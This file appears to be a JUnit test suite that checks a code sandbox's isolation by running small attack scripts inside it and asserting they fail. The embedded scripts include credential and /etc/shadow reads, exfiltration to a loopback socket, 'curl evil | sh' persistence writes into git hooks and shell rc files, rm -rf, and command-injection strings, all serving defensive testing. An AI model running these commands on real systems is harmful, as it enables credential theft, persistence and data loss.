package dev.mycel.sandbox;

import static dev.mycel.sandbox.SandboxFixture.CANARY;
import static dev.mycel.sandbox.SandboxFixture.completed;
import static org.assertj.core.api.Assertions.assertThat;

import dev.mycel.policy.Language;
import java.io.IOException;
import java.io.InputStream;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.net.SocketTimeoutException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.MessageDigest;
import java.security.NoSuchAlgorithmException;
import java.time.Duration;
import java.util.HexFormat;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.stream.Stream;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** T2 (AI-generated malicious code): each test performs the attack against the real sandbox, on both backends. */
@Tag("T2")
class T2_SandboxIsolationTest {
    @TempDir
    Path dir;

    @ParameterizedTest
    @ValueSource(strings = {"bubblewrap", "firejail"})
    void T2_network_to_a_loopback_listener_receives_nothing(String backend) throws Exception {
        SandboxFixture f = new SandboxFixture(dir);
        try (ServerSocket server = new ServerSocket(0, 50, InetAddress.getLoopbackAddress())) {
            String code = """
                    import socket, sys
                    for host in ("127.0.0.1", "localhost"):
                        try:
                            s = socket.create_connection((host, int(sys.argv[1])), timeout=2)
                            s.sendall(b"exfiltrated")
                            print("CONNECTED")
                        except OSError as e:
                            print("refused:", e)
                    """;
            var cmd = new SandboxCommand(Language.PYTHON, code, List.of(Integer.toString(server.getLocalPort())),
                    Map.of(), f.work, List.of(), Duration.ofSeconds(20));
            var c = completed(f.sandbox(backend).run(cmd));
            assertThat(c.stdout()).doesNotContain("CONNECTED").contains("refused");
            server.setSoTimeout(300);
            assertThat(acceptOne(server)).as("the listener must see no connection").isFalse();
        }
    }

    @ParameterizedTest
    @ValueSource(strings = {"bubblewrap", "firejail"})
    void T2_planted_credentials_in_home_cannot_be_read_even_when_home_is_the_granted_dir(String backend)
            throws Exception {
        SandboxFixture f = new SandboxFixture(dir);
        String code = """
                for f in "$@"; do cat "$f" 2>/dev/null; done
                grep -rs CANARY "$HOME" /etc/shadow 2>/dev/null
                cat "$MYCEL_RUN"/runtime.token 2>/dev/null
                echo done
                """;
        List<String> targets = SandboxFixture.CANARY_FILES.stream().map(p -> f.home.resolve(p).toString()).toList();
        var cmd = new SandboxCommand(Language.BASH, code, targets, Map.of("MYCEL_RUN", f.places.runtimeDir().toString()),
                f.home, List.of(f.home), Duration.ofSeconds(20));
        var c = completed(f.sandbox(backend).run(cmd));
        assertThat(c.stdout()).contains("done").doesNotContain(CANARY);
        assertThat(c.stderr()).doesNotContain(CANARY);
    }

    @ParameterizedTest
    @ValueSource(strings = {"bubblewrap", "firejail"})
    void T2_writes_outside_granted_places_fail_and_change_nothing(String backend) throws Exception {
        SandboxFixture f = new SandboxFixture(dir);
        String before = treeHash(f.base);
        String code = """
                for p in "$@"; do
                  echo pwned > "$p" 2>/dev/null && echo "WROTE $p"
                  rm -rf "$(dirname "$p")"/* 2>/dev/null
                done
                echo ok > "$OUT/result.txt" && echo "granted write ok"
                """;
        List<String> targets = List.of(f.work.resolve("input.txt").toString(), f.work.resolve("new.txt").toString(),
                f.home.resolve(".bashrc").toString(), f.home.resolve(".ssh/authorized_keys").toString(),
                f.base.resolve("elsewhere.txt").toString(), "/etc/passwd", "/usr/bin/mycel-pwned");
        var cmd = new SandboxCommand(Language.BASH, code, targets, Map.of("OUT", f.out.toString()), f.work,
                List.of(f.out), Duration.ofSeconds(20));
        var c = completed(f.sandbox(backend).run(cmd));
        // HOME and /tmp are private tmpfs: writing there may succeed, but must not reach the host.
        assertThat(c.stdout()).contains("granted write ok").doesNotContain("WROTE " + f.work)
                .doesNotContain("WROTE /etc").doesNotContain("WROTE /usr");
        Files.delete(f.out.resolve("result.txt"));
        assertThat(treeHash(f.base)).isEqualTo(before);
        assertThat(Path.of("/usr/bin/mycel-pwned")).doesNotExist();
    }

    @ParameterizedTest
    @ValueSource(strings = {"bubblewrap", "firejail"})
    void T2_persistence_files_inside_a_granted_dir_stay_read_only(String backend) throws Exception {
        SandboxFixture f = new SandboxFixture(dir);
        Path proj = f.out;
        for (String p : List.of(".git/hooks/pre-commit.sample", ".git/config", ".bashrc", ".vscode/tasks.json",
                ".config/mycel/config.toml")) {
            Files.createDirectories(proj.resolve(p).getParent());
            Files.writeString(proj.resolve(p), "original " + p);
        }
        String before = treeHash(proj);
        String code = """
                cd "$1"
                for p in .git/hooks/pre-commit .git/hooks/pre-commit.sample .git/config .bashrc .vscode/tasks.json \\
                         .config/mycel/config.toml .zshrc .profile .envrc .idea/workspace.xml; do
                  mkdir -p "$(dirname "$p")" 2>/dev/null
                  echo 'curl evil | sh' > "$p" 2>/dev/null && echo "WROTE $p"
                done
                mv .git .git-old 2>/dev/null && echo "MOVED .git"
                echo fine > notes.txt && echo "ordinary write ok"
                """;
        var cmd = new SandboxCommand(Language.BASH, code, List.of(proj.toString()), Map.of(), f.work, List.of(proj),
                Duration.ofSeconds(20));
        var c = completed(f.sandbox(backend).run(cmd));
        assertThat(c.stdout()).contains("ordinary write ok").doesNotContain(".git/").doesNotContain("MOVED")
                .doesNotContain("WROTE .bashrc").doesNotContain("WROTE .vscode").doesNotContain("WROTE .config");
        Files.delete(proj.resolve("notes.txt"));
        assertThat(treeHash(proj)).as("created persistence files are swept, existing ones untouched").isEqualTo(before);
    }

    @ParameterizedTest
    @ValueSource(strings = {"bubblewrap", "firejail"})
    void T2_environment_is_exactly_the_allow_list(String backend) throws Exception {
        SandboxFixture f = new SandboxFixture(dir);
        String code = "import os\nfor k in sorted(os.environ): print(k + '=' + os.environ[k])\n";
        var cmd = new SandboxCommand(Language.PYTHON, code, List.of(), Map.of("SLOT_CITY", "Lyon; rm -rf ~"), f.work,
                List.of(), Duration.ofSeconds(20));
        var c = completed(f.sandbox(backend).run(cmd));
        Map<String, String> env = new TreeMap<>();
        c.stdout().lines().forEach(l -> env.put(l.substring(0, l.indexOf('=')), l.substring(l.indexOf('=') + 1)));
        // bwrap's --chdir sets PWD to the working dir, which the code knows anyway; nothing else may appear.
        env.remove("PWD", f.work.toString());
        assertThat(env).isEqualTo(Map.of("PATH", "/usr/local/bin:/usr/bin:/bin", "HOME", f.home.toString(),
                "LANG", "C.UTF-8", "TMPDIR", "/tmp", "SLOT_CITY", "Lyon; rm -rf ~"));
    }

    @ParameterizedTest
    @ValueSource(strings = {"bubblewrap", "firejail"})
    void T2_untrusted_values_arrive_as_argv_verbatim(String backend) throws Exception {
        SandboxFixture f = new SandboxFixture(dir);
        String nasty = "'; touch /tmp/x; echo \"$(id)\" `id` $HOME \\";
        var cmd = new SandboxCommand(Language.JAVASCRIPT, "console.log(JSON.stringify(process.argv.slice(2)))",
                List.of(nasty, ""), Map.of(), f.work, List.of(), Duration.ofSeconds(20));
        var c = completed(f.sandbox(backend).run(cmd));
        assertThat(c.stdout().trim()).isEqualTo("[" + jsonString(nasty) + ",\"\"]");
    }

    private static String jsonString(String s) {
        return "\"" + s.replace("\\", "\\\\").replace("\"", "\\\"") + "\"";
    }

    private static boolean acceptOne(ServerSocket server) throws IOException {
        try (Socket s = server.accept(); InputStream in = s.getInputStream()) {
            return true;
        } catch (SocketTimeoutException e) {
            return false;
        }
    }

    /** A digest over every path, type and content below {@code root}, computed from outside. */
    static String treeHash(Path root) throws IOException {
        try (Stream<Path> all = Files.walk(root)) {
            MessageDigest md = MessageDigest.getInstance("SHA-256");
            for (Path p : all.sorted().toList()) {
                md.update(root.relativize(p).toString().getBytes());
                md.update(Files.isDirectory(p) ? new byte[] {'d'} : Files.readAllBytes(p));
            }
            return HexFormat.of().formatHex(md.digest());
        } catch (NoSuchAlgorithmException e) {
            throw new IllegalStateException(e);
        }
    }
}
